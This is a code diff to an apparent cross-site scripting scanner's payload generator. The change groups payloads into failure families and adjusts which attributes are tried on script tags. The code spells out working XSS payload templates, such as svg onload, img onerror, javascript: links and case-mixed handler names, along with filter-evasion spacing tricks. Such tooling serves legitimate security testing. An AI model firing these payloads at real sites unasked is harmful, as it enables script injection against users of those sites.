@@ -48,18 +48,14 @@ _SCRIPT_MARKUP = (
 )
 _ADDRESS_MARKUP = ("<a href=javascript:{}>x</a>", "<iframe src=javascript:{}>")
 _VB_CALL = f"MsgBox({MARK})"
-# Several weak tags at once, for servers that let only one kind of tag or attribute through.
-TAG_SOUP = (
-    "<svg onload={0}></svg><img src=x onerror={0}><iframe onload={0}></iframe><a href=javascript:{0}>x</a>"
-    "<div onfocus={0} tabindex=1 autofocus>x</div>"
-)
 
 
 class Payload(msgspec.Struct, frozen=True):
     """A value to send. Its `cost` orders payloads; `needs` are the characters and words that must come through.
 
     `inner` says that they are needed in the decoded text of an attribute, not in the page's own. `escapes` names the
-    quote whose escaping by the server the payload turns against it.
+    quote whose escaping by the server the payload turns against it. Payloads of one `family` fail together where they
+    come through whole and do not run.
     """
 
     template: str
@@ -68,6 +64,7 @@ class Payload(msgspec.Struct, frozen=True):
     needs: frozenset[str] = frozenset()
     escapes: str = ""
     padded: bool = False
+    family: str = "inside"
 
     def value(self, marker: str) -> str:
         """Return what to send, with this attempt's number in it."""
@@ -100,9 +97,16 @@ def payloads_for(occurrence: Occurrence) -> Iterator[Payload]:
 
 
 def _payload(
-    template: str, cost: int, *, inner: bool = False, needs: str | None = None, escapes: str = ""
+    template: str,
+    cost: int,
+    *,
+    inner: bool = False,
+    needs: str | None = None,
+    escapes: str = "",
+    family: str = "inside",
 ) -> Payload:
-    return Payload(template, cost, inner, features(template if needs is None else needs), escapes)
+    needed = features(template if needs is None else needs)
+    return Payload(template, cost, inner, needed, escapes, family=family)
 
 
 def _markup(before: str, cost: int = 0) -> Iterator[Payload]:
@@ -110,12 +114,15 @@ def _markup(before: str, cost: int = 0) -> Iterator[Payload]:
     for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
         for vehicle_cost, vehicle in enumerate(_HANDLER_MARKUP):
             step = 3 if vehicle_cost else 0  # a script element comes second: filters differ on the two
-            yield _payload(before + vehicle.format(call), cost + 2 * vehicle_cost + step + 4 * call_cost)
+            total = cost + 2 * vehicle_cost + step + 4 * call_cost
+            yield _payload(before + vehicle.format(call), total, family="handler")
         for vehicle_cost, vehicle in enumerate(_ADDRESS_MARKUP):
-            yield _payload(before + vehicle.format(call), cost + 24 + vehicle_cost + 4 * call_cost)
+            total = cost + 24 + vehicle_cost + 4 * call_cost
+            yield _payload(before + vehicle.format(call), total, family="address")
     for call_cost, call in enumerate((*_CALLS, _THROW)):
         for vehicle_cost, vehicle in enumerate(_SCRIPT_MARKUP):
-            yield _payload(before + vehicle.format(call), cost + 2 + 3 * vehicle_cost + 4 * call_cost)
+            total = cost + 2 + 3 * vehicle_cost + 4 * call_cost
+            yield _payload(before + vehicle.format(call), total, family="script")
 
 
 def _text_end(occurrence: Occurrence) -> str:
@@ -127,7 +134,7 @@ def _events(occurrence: Occurrence) -> list[str]:
     """Return attributes that would run script on this very element, surest first; empty where none would."""
     tag = occurrence.tag
     if tag == "script":
-        return [] if occurrence.sibling("src") else ["src=data:,{}"]
+        return ["onerror={0} onload={0}"] if _has_source(occurrence) else ["src=data:,{}"]
     if tag in ("base", "head", "meta", "noscript", "param", "template", "title"):
         return []
     if tag in ("style", "link"):
@@ -141,15 +148,18 @@ def _events(occurrence: Occurrence) -> list[str]:
     return ["onfocus={} autofocus tabindex=1", "onmouseover={}", "OnFoCuS={} autofocus tabindex=1"]
 
 
+def _has_source(occurrence: Occurrence) -> bool:
+    return occurrence.attribute == "src" or any(name == "src" for name, _ in occurrence.siblings)
+
+
 def _new_attribute(occurrence: Occurrence, before: str, after: str, cost: int = 0) -> Iterator[Payload]:
     """Yield further attributes for the same tag, behind what leaves the present one."""
     for event_cost, event in enumerate(_events(occurrence)):
         for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
-            if "{" + "}" in event and event.startswith("src") and call_cost not in (0, 1, 2, 3):
-                continue
             total = cost + 3 * event_cost + 4 * call_cost
             text = event.format(call)
-            yield _payload(f"{before} {text} {after}" if before else f"{text} {after}", total)
+            family = f"attribute {event_cost}"
+            yield _payload(f"{before} {text} {after}".lstrip(), total, family=family)
             for space_cost, space in enumerate("/\n\t\f"):
                 if space == "/" and not (before and before[-1] in "'\""):
                     continue
@@ -160,7 +170,7 @@ def _new_attribute(occurrence: Occurrence, before: str, after: str, cost: int = 
                     quote = before[-1]
                     name = event.split("=", 1)[0]
                     spaced = f"{before}/autofocus/tabindex={quote}1{quote}{name}={quote}{call}"
-                yield _payload(spaced, total + 5 + space_cost)
+                yield _payload(spaced, total + 5 + space_cost, family=family)
 
 
 def _tag_name(occurrence: Occurrence, closers: str) -> Iterator[Payload]:
@@ -170,7 +180,7 @@ def _tag_name(occurrence: Occurrence, closers: str) -> Iterator[Payload]:
             ("svg onload={} ", "svg/onload={}/", "img src=x onerror={} ", "sVg OnLoAd={} ")
         ):
             for call_cost, call in enumerate(_ATTRIBUTE_CALLS):
-                yield _payload(tag.format(call), 3 * cost + 4 * call_cost)
+                yield _payload(tag.format(call), 3 * cost + 4 * call_cost, family=f"tag {cost}")
     yield from _new_attribute(occurrence, "x", "x=", 3)
     yield from _markup(f"x>{closers}", 20)
 
